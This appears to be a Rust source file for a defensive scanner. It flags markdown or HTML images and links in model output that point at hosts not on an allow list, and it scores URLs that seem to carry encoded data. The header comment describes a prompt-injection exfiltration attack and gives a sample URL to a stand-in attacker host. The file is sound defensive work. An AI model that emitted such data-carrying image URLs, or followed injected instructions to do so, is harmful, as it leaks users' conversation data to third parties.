//! Exfiltration through the output: a rendered markdown image or HTML image is fetched by the
//! client without a click, so an injected instruction can make the model send conversation
//! data to an attacker's host in the image URL (`![](https://evil.example/p?q=<data>)`).
//! Links and bare URLs need a click but can carry data the same way.
//!
//! Findings, for URLs whose host is not in `allow_domains` (suffix match on whole labels):
//! - `exfiltration.markdown_image` (inline `![..](url)` or reference `![..][ref]`), score 1;
//! - `exfiltration.html_image` (`<img src>`, and other tags that load on render: `iframe`,
//!   `script`, `link`, `video`, `audio`, `source`, `embed`, `object`), score 1;
//! - `exfiltration.link` (markdown links, `<a href>`, bare URLs), score 0.7 when the URL
//!   carries data, else 0.3. Data: a query value or path segment that is a URL-encoded
//!   sentence or text encoded as base64 or hex; or a query value that is long or a random
//!   blob. Slugs, hashes, UUIDs and identifiers do not count.
//!
//! URLs without a host (relative, `data:`, `mailto:`) are not reported.

use base64::Engine;
use base64::engine::DecodePaddingMode;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use regex::Regex;
use serde::Deserialize;

use crate::scan::{Finding, Scan, ScanError, ScanInput, Scanner};

#[cfg(test)]
mod tests;

/// The exfiltration check, as written in a policy.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExfiltrationConfig {
    /// Allowed hosts; `example.com` also allows `cdn.example.com` (not `badexample.com`).
    #[serde(default)]
    pub allow_domains: Vec<String>,
    /// Also report links and bare URLs, not only images (default true).
    #[serde(default = "default_true")]
    pub links: bool,
}

fn default_true() -> bool {
    true
}

impl Default for ExfiltrationConfig {
    fn default() -> Self {
        Self {
            allow_domains: Vec::new(),
            links: true,
        }
    }
}

/// The exfiltration scanner (kind `exfiltration`).
#[derive(Debug)]
pub struct ExfiltrationScanner {
    allow: Vec<String>,
    links: bool,
    patterns: Patterns,
}

const IMAGE_SCORE: f32 = 1.0;
const DATA_LINK_SCORE: f32 = 0.7;
const LINK_SCORE: f32 = 0.3;

/// A query value this long carries data.
const LONG_VALUE: usize = 40;
/// Encoded text shorter than this (decoded) is too short to matter.
const ENCODED_TEXT: usize = 8;
/// A random-looking query value this long carries data.
const RANDOM_BLOB: usize = 32;

#[derive(Debug)]
struct Patterns {
    md_inline: Regex,
    md_ref_image: Regex,
    md_ref_def: Regex,
    html: Regex,
    bare: Regex,
}

impl Patterns {
    fn new() -> Result<Self, String> {
        let re = |p: &str| Regex::new(p).map_err(|e| format!("exfiltration pattern: {e}"));
        Ok(Self {
            // `[text](url "title")` with an optional `!` in front.
            md_inline: re(
                r#"(!?)\[[^\]\n]{0,1000}\]\(\s*<?([^\s<>()]+(?:\([^\s()]*\)[^\s<>()]*)*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)"#,
            )?,
            md_ref_image: re(r"!\[([^\]\n]{0,1000})\]\[([^\]\n]{0,200})\]")?,
            md_ref_def: re(r"(?m)^[ \t]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?(\S+?)>?(?:[ \t]|$)")?,
            html: re(
                r#"(?is)<(img|iframe|script|link|video|audio|source|embed|object|input|a)\b[^>]*?\b(src|href|data|poster|srcset)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))"#,
            )?,
            bare: re(
                r#"(?i)(?:\b(?:https?|ftp|wss?)://|(?:^|[\s(])//[a-z0-9])[^\s<>"'`\]\[{}|\\^]+"#,
            )?,
        })
    }
}

/// The parts of a URL that matter here.
#[derive(Debug, PartialEq)]
struct UrlParts<'a> {
    host: String,
    path: &'a str,
    query: &'a str,
}

fn parse_url(url: &str) -> Option<UrlParts<'_>> {
    let url = url.trim();
    let rest = if let Some(r) = url.strip_prefix("//") {
        r
    } else {
        let (scheme, r) = url.split_once("://")?;
        let scheme = scheme.to_ascii_lowercase();
        if !matches!(scheme.as_str(), "http" | "https" | "ftp" | "ws" | "wss") {
            return None;
        }
        r
    };
    let auth_end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let authority = &rest[..auth_end];
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    let host = percent_decode(host).to_ascii_lowercase();
    let host = host.trim_end_matches('.').to_string();
    // A protocol-relative "host" without a dot is more likely a code comment ("//TODO").
    if host.is_empty() || url.starts_with("//") && !host.contains(['.', ':']) {
        return None;
    }
    let after = &rest[auth_end..];
    let after = after.split('#').next().unwrap_or("");
    let (path, query) = after.split_once('?').unwrap_or((after, ""));
    Some(UrlParts { host, path, query })
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = |b: u8| (b as char).to_digit(16);
        match (
            bytes[i],
            bytes.get(i + 1).copied().and_then(hex),
            bytes.get(i + 2).copied().and_then(hex),
        ) {
            (b'%', Some(h), Some(l)) => {
                out.push((h * 16 + l) as u8);
                i += 3;
            }
            (b'+', _, _) => {
                out.push(b' ');
                i += 1;
            }
            (b, _, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

const LENIENT: GeneralPurposeConfig =
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent);

/// Whether decoded bytes are text: valid UTF-8, mostly printable, long enough to matter.
fn is_text(bytes: &[u8]) -> bool {
    let Ok(s) = std::str::from_utf8(bytes) else {
        return false;
    };
    let total = s.chars().count();
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
        .count();
    total >= ENCODED_TEXT && printable * 10 >= total * 9
}

/// Whether `value` is text encoded as base64 (either alphabet) or hex: how data is smuggled
/// into a URL. Hashes, UUIDs and identifiers decode to binary and do not count.
fn encodes_text(value: &str) -> bool {
    if value.len() < 2 * ENCODED_TEXT {
        return false;
    }
    if value.bytes().all(|b| b.is_ascii_hexdigit()) && value.len().is_multiple_of(2) {
        let hex = |b: u8| (b as char).to_digit(16).unwrap_or(0) as u8;
        let bytes: Vec<u8> = value
            .as_bytes()
            .chunks(2)
            .map(|pair| hex(pair[0]) * 16 + hex(pair[1]))
            .collect();
        if is_text(&bytes) {
            return true;
        }
    }
    let trimmed = value.trim_end_matches('=');
    [
        GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT),
        GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT),
    ]
    .iter()
    .any(|engine| engine.decode(trimmed).is_ok_and(|bytes| is_text(&bytes)))
}

/// Whether a value looks like a random blob (encrypted or compressed data): long, with a
/// base64-like mix of upper case, lower case and digits.
fn random_blob(value: &str) -> bool {
    let n = value.len();
    if n < RANDOM_BLOB
        || !value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='))
    {
        return false;
    }
    let upper = value.bytes().filter(u8::is_ascii_uppercase).count();
    let lower = value.bytes().filter(u8::is_ascii_lowercase).count();
    let digit = value.bytes().filter(u8::is_ascii_digit).count();
    upper * 5 >= n && lower * 5 >= n && digit * 20 >= n
}

/// Whether one query value (or, with `in_query` false, a path segment) carries data.
fn carries_data(raw: &str, in_query: bool) -> bool {
    let decoded = percent_decode(raw);
    decoded.split_whitespace().count() >= 4
        || encodes_text(raw)
        || encodes_text(&decoded)
        || in_query && (decoded.chars().count() >= LONG_VALUE || random_blob(&decoded))
}

fn url_carries_data(url: &UrlParts<'_>) -> bool {
    url.query
        .split(['&', ';'])
        .map(|pair| pair.split_once('=').map_or(pair, |(_, v)| v))
        .any(|v| carries_data(v, true))
        || url
            .path
            .split('/')
            .any(|segment| carries_data(segment, false))
}

/// A bare URL without the sentence punctuation after it; a closing parenthesis stays when
/// the URL opened one ("wiki/Rust_(language)").
fn trim_url_end(url: &str) -> &str {
    let mut url = url;
    loop {
        let trimmed = url.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '\'', '"']);
        let unbalanced =
            trimmed.ends_with(')') && trimmed.matches('(').count() < trimmed.matches(')').count();
        let next = if unbalanced {
            &trimmed[..trimmed.len() - 1]
        } else {
            trimmed
        };
        if next.len() == url.len() {
            return url;
        }
        url = next;
    }
}

impl ExfiltrationScanner {
    pub fn new(c: &ExfiltrationConfig) -> Result<Self, String> {
        let mut allow = Vec::new();
        for d in &c.allow_domains {
            let d = d
                .trim()
                .trim_start_matches("*.")
                .trim_matches('.')
                .to_ascii_lowercase();
            if d.is_empty() || d.contains(['/', ':', ' ']) {
                return Err(format!("allow_domains entry {d:?} is not a host name"));
            }
            allow.push(d);
        }
        Ok(Self {
            allow,
            links: c.links,
            patterns: Patterns::new()?,
        })
    }

    fn allowed(&self, host: &str) -> bool {
        self.allow.iter().any(|d| {
            host == d
                || host
                    .strip_suffix(d.as_str())
                    .is_some_and(|p| p.ends_with('.'))
        })
    }

    /// A finding for `url` at `start..end`, if its host is not allowed.
    fn judge(&self, kind: &'static str, url: &str, start: usize, end: usize) -> Option<Finding> {
        let parts = parse_url(url)?;
        if self.allowed(&parts.host) {
            return None;
        }
        let score = match kind {
            "exfiltration.link" if url_carries_data(&parts) => DATA_LINK_SCORE,
            "exfiltration.link" => LINK_SCORE,
            _ => IMAGE_SCORE,
        };
        Some(Finding::new(kind, start, end, score))
    }
}

impl Scanner for ExfiltrationScanner {
    fn kind(&self) -> &'static str {
        "exfiltration"
    }

    fn scan(&self, input: &ScanInput<'_>) -> Result<Scan, ScanError> {
        let text = input.text;
        // Every URL with a host has `//` in it.
        if !text.contains("//") {
            return Ok(Scan::clean());
        }
        let p = &self.patterns;
        let mut findings = Vec::new();
        // Spans already judged (allowed or not), so bare-URL matching skips them.
        let mut seen: Vec<(usize, usize)> = Vec::new();
        let mut push =
            |f: Option<Finding>, span: (usize, usize), seen: &mut Vec<(usize, usize)>| {
                seen.push(span);
                findings.extend(f);
            };
        for c in p.md_inline.captures_iter(text) {
            let (Some(all), Some(url)) = (c.get(0), c.get(2)) else {
                continue;
            };
            let image = c.get(1).is_some_and(|m| !m.is_empty());
            if !image && !self.links {
                seen.push((all.start(), all.end()));
                continue;
            }
            let kind = if image {
                "exfiltration.markdown_image"
            } else {
                "exfiltration.link"
            };
            push(
                self.judge(kind, url.as_str(), all.start(), all.end()),
                (all.start(), all.end()),
                &mut seen,
            );
        }
        let defs: Vec<(String, &str, usize, usize)> = p
            .md_ref_def
            .captures_iter(text)
            .filter_map(|c| {
                let all = c.get(0)?;
                Some((
                    c.get(1)?.as_str().trim().to_lowercase(),
                    c.get(2)?.as_str(),
                    all.start(),
                    all.end(),
                ))
            })
            .collect();
        for c in p.md_ref_image.captures_iter(text) {
            let (Some(all), Some(alt), Some(label)) = (c.get(0), c.get(1), c.get(2)) else {
                continue;
            };
            let label = if label.as_str().trim().is_empty() {
                alt.as_str()
            } else {
                label.as_str()
            };
            let label = label.trim().to_lowercase();
            if let Some((_, url, ..)) = defs.iter().find(|d| d.0 == label) {
                push(
                    self.judge("exfiltration.markdown_image", url, all.start(), all.end()),
                    (all.start(), all.end()),
                    &mut seen,
                );
            }
        }
        for (_, url, start, end) in &defs {
            let f = if self.links {
                self.judge("exfiltration.link", url, *start, *end)
            } else {
                None
            };
            push(f, (*start, *end), &mut seen);
        }
        for c in p.html.captures_iter(text) {
            let Some(all) = c.get(0) else { continue };
            let url = c
                .get(3)
                .or(c.get(4))
                .or(c.get(5))
                .map_or("", |m| m.as_str());
            let tag = c.get(1).map_or("", |m| m.as_str());
            let kind = if tag.eq_ignore_ascii_case("a") {
                "exfiltration.link"
            } else {
                "exfiltration.html_image"
            };
            if kind == "exfiltration.link" && !self.links {
                seen.push((all.start(), all.end()));
                continue;
            }
            // srcset lists "url 1x, url 2x": judge each candidate.
            let f = url
                .split(',')
                .filter_map(|candidate| candidate.split_whitespace().next())
                .filter_map(|u| self.judge(kind, u, all.start(), all.end()))
                .max_by(|a, b| a.score.total_cmp(&b.score));
            push(f, (all.start(), all.end()), &mut seen);
        }
        if self.links {
            for m in p.bare.find_iter(text) {
                let start = m.start()
                    + m.as_str()
                        .find(|c: char| c != '(' && !c.is_whitespace())
                        .unwrap_or(0);
                let url = trim_url_end(&text[start..m.end()]);
                let end = start + url.len();
                if seen.iter().any(|&(s, e)| start < e && s < end) {
                    continue;
                }
                findings.extend(self.judge("exfiltration.link", url, start, end));
            }
        }
        findings.sort_by_key(|f| f.start);
        Ok(Scan::from_findings(findings))
    }
}
